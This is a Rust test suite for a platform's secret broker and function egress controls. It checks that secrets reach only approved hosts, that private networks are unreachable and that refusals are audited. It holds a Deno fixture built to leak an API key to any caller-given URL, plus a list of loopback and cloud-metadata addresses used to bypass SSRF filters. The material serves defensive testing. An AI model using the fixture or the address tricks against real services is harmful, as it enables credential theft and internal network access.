//! What leaves a function: only where its policy says, on record, and brokered values only toward their hosts.

use serde_json::{Value, json};

use crate::api::{App, Client, eventually, random, str};
use crate::upstream::Upstream;

/// Sends the key where the caller says, in a header, in the path and in JSON, and tells what came of it.
const SEND: &str = r#"
Deno.serve(async (request) => {
  const url = new URL(request.url).searchParams.get("url");
  const key = Deno.env.get("STRIPE_KEY");
  try {
    const answer = await fetch(`${url}/v1/${key}?again=${encodeURIComponent(key)}`, {
      method: "POST", headers: { authorization: `Basic ${btoa("user:" + key)}`, "x-key": `Bearer ${key}` }, body: JSON.stringify({ key }),
    });
    return Response.json({ key, status: answer.status, text: await answer.text() });
  } catch (error) { return Response.json({ key, error: String(error) }); }
});
"#;

async fn send(client: &Client, url: &str) -> Value {
    let path = format!("/functions/v1/send?url={}", url.replace(':', "%3A").replace('/', "%2F"));
    client.get(&path).await.expect(200).json()
}

async fn egress(client: &Client, count: usize) -> Vec<Value> {
    crate::api::eventually("the requests are on record", async || {
        let found = client.items("/api/v1/functions/send/egress").await;
        (found.len() >= count).then_some(found)
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_brokered_value_goes_to_its_hosts_and_never_to_the_function() {
    let upstream = Upstream::start().await;
    let app = upstream.app();
    let admin = app.admin();
    let value = format!("sk_live_{}", random(32));
    let host = format!("localhost:{}", upstream.port);
    let put = json!({ "value": value, "delivery": "brokered", "hosts": [host] });
    let kept = admin.put("/api/v1/secrets/STRIPE_KEY", put).await.expect(201).json();
    assert_eq!((&kept["delivery"], &kept["hosts"]), (&json!("brokered"), &json!([host])));
    admin.deploy("send", SEND, json!({})).await;

    let seen = send(&admin, &upstream.url()).await;
    let placeholder = str(&seen["key"]).to_owned();
    assert!(placeholder.starts_with("sk_live_") && placeholder.len() == value.len() && placeholder != value);
    assert_eq!(seen["status"], 200, "{seen}");
    let request = upstream.last();
    for part in [
        format!("POST /v1/{value}?again={value} HTTP/1.1"),
        format!("Bearer {value}"),
        format!(
            "Basic {}",
            base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("user:{value}"))
        ),
        format!("{{\"key\":\"{value}\"}}"),
    ] {
        assert!(request.contains(&part), "{part} is not in {request}");
    }
    assert!(!request.contains(&placeholder) && !request.contains("x-tresor"), "{request}");
    // What the host reflected came back as the placeholder.
    let reflected = str(&seen["text"]);
    assert!(reflected.contains(&format!("Bearer {placeholder}")) && !reflected.contains(&value), "{reflected}");

    // Toward another host, and in clear, it is refused, and the account can see that.
    let refused = send(&admin, &format!("https://127.0.0.1:{}", upstream.port)).await;
    assert_eq!(refused["status"], 403, "{refused}");
    assert!(str(&refused["text"]).contains("placeholder_refused") && str(&refused["text"]).contains("STRIPE_KEY"));
    assert_eq!(send(&admin, &format!("http://localhost:{}", upstream.port)).await["status"], 403);
    assert_eq!(upstream.seen.lock().unwrap().len(), 1);
    let events = eventually("the refusal is on record", async || {
        let events = admin.items("/api/v1/audit?action=secret.send").await;
        (!events.is_empty()).then_some(events)
    })
    .await;
    let event = &events[events.len() - 1]["event"];
    assert_eq!(
        (
            &event["outcome"],
            &event["actor"]["kind"],
            &event["actor"]["name"],
            &event["resource"]["name"],
            &event["details"]["host"]
        ),
        (&json!("denied"), &json!("function"), &json!("send"), &json!("STRIPE_KEY"), &json!("127.0.0.1"))
    );

    let records = egress(&admin, 3).await;
    let first = &records[0];
    assert_eq!(
        (&first["host"], &first["port"], &first["method"], &first["outcome"], &first["secrets"], &first["via"]),
        (
            &json!("localhost"),
            &json!(upstream.port),
            &json!("POST"),
            &json!("200"),
            &json!(["STRIPE_KEY"]),
            &json!("fetch")
        )
    );
    assert!(first["request_bytes"].as_u64().unwrap() > 32 && first["response_bytes"].as_u64().unwrap() > 100);
    assert_eq!(records[1]["outcome"], "placeholder_refused");
    let newest = admin.invocations("send", 3).await;
    let id = str(&newest[2]["id"]);
    let own = admin.items(&format!("/api/v1/functions/send/egress?invocation={id}")).await;
    assert_eq!((own.len(), &own[0]["invocation"]), (1, &json!(id)));

    // The next worker has another placeholder, and the old one is worth nothing.
    admin.put("/api/v1/secrets/STRIPE_KEY", json!({ "value": value })).await.expect(200);
    assert_ne!(str(&send(&admin, &upstream.url()).await["key"]), placeholder);
    let everything = app.transcript();
    assert!(!String::from_utf8_lossy(&everything).contains(&value), "the value was answered to somebody");
}

/// The value is not in the worker's memory, where one that is delivered by `env` is.
#[tokio::test(flavor = "multi_thread")]
async fn a_worker_never_holds_a_brokered_value() {
    let upstream = Upstream::start().await;
    let app = upstream.app();
    let admin = app.admin();
    let (brokered, held) = (format!("sk_live_{}", random(32)), format!("sk_held_{}", random(32)));
    let put = json!({ "value": brokered, "delivery": "brokered", "hosts": [format!("localhost:{}", upstream.port)] });
    admin.put("/api/v1/secrets/STRIPE_KEY", put).await.expect(201);
    admin.put_secret("HELD_KEY", &held).await;
    admin.deploy("send", SEND, json!({})).await;
    assert_eq!(send(&admin, &upstream.url()).await["status"], 200);
    assert!(upstream.last().contains(&brokered));
    let found = |value: &str| crate::process::in_workers(app.server.pid(), &crate::process::forms(value));
    assert!(!found(&held).is_empty(), "the search finds what is there");
    assert_eq!(found(&brokered), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn policies_bound_where_requests_go() {
    let upstream = Upstream::start().await;
    let app = upstream.app();
    let admin = app.admin();
    admin.put_secret("STRIPE_KEY", "sk_live_0123456789abcdef").await;
    let host = format!("localhost:{}", upstream.port);
    for (policy, status, code) in [
        (json!(["public"]), 200, ""),
        (json!([host]), 200, ""),
        (json!(["none"]), 403, "host_not_allowed"),
        (json!([]), 403, "host_not_allowed"),
        (json!(["api.example.com"]), 403, "host_not_allowed"),
        (json!([format!("localhost:{}", upstream.port ^ 1)]), 403, "host_not_allowed"),
    ] {
        let deployed = admin.deploy("send", SEND, json!({ "egress": policy })).await;
        assert_eq!(deployed["egress"], if policy == json!([]) { json!(["none"]) } else { policy.clone() });
        let answer = send(&admin, &upstream.url()).await;
        assert_eq!(answer["status"], status, "{policy}: {answer}");
        assert!(str(&answer["text"]).contains(code), "{policy}: {answer}");
    }
    for (body, field, code) in [
        (json!({ "egress": ["public", "a.example"] }), "egress", "egress_unknown"),
        (json!({ "egress": ["https://a.example"] }), "egress[0]", "host_invalid"),
        (json!({ "tcp": ["db.example.com"] }), "tcp[0]", "endpoint_invalid"),
        (json!({ "egress": ["a.example"], "tcp": ["b.example:5432"] }), "tcp[0]", "endpoint_outside_egress"),
    ] {
        let mut body = body;
        body["source"] = json!(SEND);
        let problem = admin.put("/api/v1/functions/send", body).await.problem(422, code);
        assert_eq!(problem["errors"][0]["field"], field);
    }
}

/// Without leave of the operator no function reaches this machine or its network.
#[tokio::test(flavor = "multi_thread")]
async fn private_networks_are_out_of_reach() {
    let upstream = Upstream::start().await;
    let app = App::start();
    let admin = app.admin();
    admin.put_secret("STRIPE_KEY", "sk_live_0123456789abcdef").await;
    admin.deploy("send", SEND, json!({})).await;
    for host in [
        "localhost",
        "127.0.0.1",
        "127.1",
        "0",
        "2130706433",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "169.254.169.254",
        "10.0.0.1",
    ] {
        let answer = send(&admin, &format!("https://{host}:{}", upstream.port)).await;
        // Some are refused by Deno already.
        assert!(answer["status"] == 403 || answer["error"].is_string(), "{host}: {answer}");
    }
    assert!(upstream.seen.lock().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_does_not_follow_to_hosts_that_were_named_for_a_later_one() {
    let app = App::start();
    let admin = app.admin();
    let put = async |body: Value| admin.put("/api/v1/secrets/KEY", body).await;
    put(json!({ "value": "v1", "delivery": "brokered" })).await.problem(422, "hosts_missing");
    put(json!({ "value": "v1", "hosts": ["a.example"] })).await.problem(422, "hosts_without_broker");
    put(json!({ "value": "v1", "delivery": "brokered", "hosts": ["https://a.example"] }))
        .await
        .problem(422, "host_invalid");
    put(json!({ "value": "v1", "delivery": "brokered", "hosts": ["A.example", "a.example"] })).await.expect(201);
    // Who may put secrets puts one of their own for another host, and makes the first current again: it goes nowhere new.
    put(json!({ "value": "v2", "hosts": ["evil.example"] })).await.expect(200);
    let back = admin.post("/api/v1/secrets/KEY/activate", json!({ "version": 1 })).await.expect(200).json();
    assert_eq!((&back["delivery"], &back["hosts"]), (&json!("brokered"), &json!(["a.example"])));
    put(json!({ "value": "v3", "delivery": "env" })).await.expect(200);
    let back = admin.post("/api/v1/secrets/KEY/activate", json!({ "version": 1 })).await.expect(200).json();
    assert_eq!((&back["delivery"], &back["hosts"]), (&json!("brokered"), &json!(["a.example"])));
}

/// The audit log is not a function's to fill, however many hosts it thinks of.
#[tokio::test(flavor = "multi_thread")]
async fn refused_placeholders_are_told_and_do_not_fill_the_audit_log() {
    const FLOOD: &str = r#"
        Deno.serve(async () => {
          const headers = { "x-key": Deno.env.get("STRIPE_KEY") };
          let refused = 0;
          for (let n = 0; n < 300; n++) {
            const answer = await fetch(`https://h${n % 150}.example/`, { headers });
            if (answer.status === 403 && (await answer.json()).code === "placeholder_refused") refused++;
          }
          return new Response(String(refused));
        });
    "#;
    let app = App::start();
    let admin = app.admin();
    let put =
        json!({ "value": format!("sk_live_{}", random(32)), "delivery": "brokered", "hosts": ["api.stripe.com"] });
    admin.put("/api/v1/secrets/STRIPE_KEY", put).await.expect(201);
    admin.deploy("flood", FLOOD, json!({})).await;
    admin.deploy("other", FLOOD, json!({})).await;
    assert_eq!(admin.get("/functions/v1/flood").await.expect(200).text(), "300");
    admin.get("/functions/v1/other").await.expect(200);
    let count =
        |events: &[Value], name: &str| events.iter().filter(|event| event["event"]["actor"]["name"] == name).count();
    let events = crate::api::eventually("both functions are told of", async || {
        let events = admin.items("/api/v1/audit?action=secret.send").await;
        (count(&events, "other") >= 20).then_some(events)
    })
    .await;
    assert_eq!((count(&events, "flood"), count(&events, "other")), (20, 20));
    let hosts: std::collections::BTreeSet<_> =
        events.iter().map(|event| str(&event["event"]["details"]["host"]).to_owned()).collect();
    assert_eq!(hosts.len(), 20, "each host once");
    let last: Vec<_> = events.iter().filter(|event| event["event"]["details"]["further"].is_string()).collect();
    assert_eq!(last.len(), 2, "the last one of each function says so");
    crate::api::eventually("each refusal is counted", async || {
        let metrics = admin.get("/metrics").await.expect(200).text();
        metrics.contains("tresor_placeholders_refused_total 600").then_some(())
    })
    .await;
}
